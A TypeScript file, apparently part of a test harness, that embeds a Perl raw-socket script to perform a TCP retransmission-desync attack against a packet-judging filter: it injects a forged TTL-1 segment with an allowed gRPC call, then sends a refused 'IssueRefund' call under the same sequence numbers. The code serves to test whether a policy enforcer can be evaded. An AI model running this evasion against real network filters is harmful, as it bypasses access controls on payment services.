/**
 * The first attack on a judge of packets: the same bytes of a connection twice. A forged segment with an allowed call
 * and a TTL of 1 is judged, and dies at the node behind the program; the refused call with the same sequence numbers
 * then counts as a retransmission of what was judged. It takes CAP_NET_RAW, which container runtimes grant unless told
 * otherwise. Against Envoy it does nothing: Envoy is the TCP peer itself.
 *
 * Node has no raw sockets; perl, which every Debian has (perl-base is essential), has.
 */
import { PAYMENTS_PORT } from "../../../proto/payments.js";
import type { RoadPlan } from "../address-plan.js";
import { CLIENT_NAMESPACE, inNamespace } from "../network.js";
import { runProgram } from "../processes.js";
import { CLIENT_HELLO, emptyCall, SETTINGS_ACK } from "./wire-bytes.js";

/** Opens a connection of its own and calls a method that is refused, behind a forged segment or plainly. */
export async function callBehindForgery(road: RoadPlan, forged: boolean): Promise<void> {
  const bytes = [CLIENT_HELLO, SETTINGS_ACK, emptyCall("ProcessPayment"), emptyCall("IssueRefund")];
  await runProgram(
    inNamespace(CLIENT_NAMESPACE, [
      ...["perl", "-e", SCRIPT, road.callers["api-gateway"], road.server, String(PAYMENTS_PORT), forged ? "1" : "0"],
      ...bytes.map((part) => part.toString("hex")),
    ]),
  );
}

/**
 * The last segment that went out of our port tells sequence and acknowledgement numbers (AF_PACKET, packet(7)). The
 * forged one goes out through a raw socket (raw(7), IPPROTO_RAW: the kernel fills in the IP checksum). Its TCP checksum
 * is left at zero: it dies before anybody would look.
 */
const SCRIPT = String.raw`
use strict; use Socket;
my ($me, $host, $port, $forge, @hex) = @ARGV;
my ($hello, $ack, $allowed, $refused) = map { pack("H*", $_) } @hex;
socket(my $sniff, 17, SOCK_RAW, unpack("S", pack("n", 3))) or die "packet socket: $!\n";
socket(my $call, PF_INET, SOCK_STREAM, 0) or die "socket: $!\n";
setsockopt($call, 6, 1, pack("i", 1));
bind($call, pack_sockaddr_in(0, inet_aton($me))) or die "bind: $!\n";
connect($call, pack_sockaddr_in($port, inet_aton($host))) or die "connect: $!\n";
my ($own) = unpack_sockaddr_in(getsockname($call));
my $wait = sub { select(undef, undef, undef, $_[0]) };
syswrite($call, $hello); $wait->(0.05);
syswrite($call, $ack); $wait->(0.1);
my ($seq, $acked);
my $ready = ""; vec($ready, fileno($sniff), 1) = 1;
while (select(my $r = $ready, undef, undef, 0.05)) {
  recv($sniff, my $packet, 65535, 0);
  next unless length($packet) >= 54 && substr($packet, 12, 2) eq "\x08\x00" && substr($packet, 26, 4) eq inet_aton($me);
  my ($source, undef, $s, $a, $offset) = unpack("nnNNC", substr($packet, 34, 13));
  next unless $source == $own;
  my $bytes = unpack("n", substr($packet, 16, 2)) - 20 - ($offset >> 4) * 4;
  ($seq, $acked) = (($s + $bytes) & 0xffffffff, $a);
}
die "no packet of our own was seen\n" unless defined $seq;
if ($forge) {
  my $tcp = pack("nnNNCCnnn", $own, $port, $seq, $acked, 5 << 4, 0x18, 500, 0, 0) . $allowed;
  my $ip = pack("CCnnnCCn", 0x45, 0, 20 + length($tcp), 7, 0, 1, 6, 0) . inet_aton($me) . inet_aton($host);
  socket(my $raw, PF_INET, SOCK_RAW, 255) or die "raw socket: $!\n";
  send($raw, $ip . $tcp, 0, pack_sockaddr_in(0, inet_aton($host))) or die "send: $!\n";
  $wait->(0.05);
}
syswrite($call, $refused); $wait->(0.3);
`;
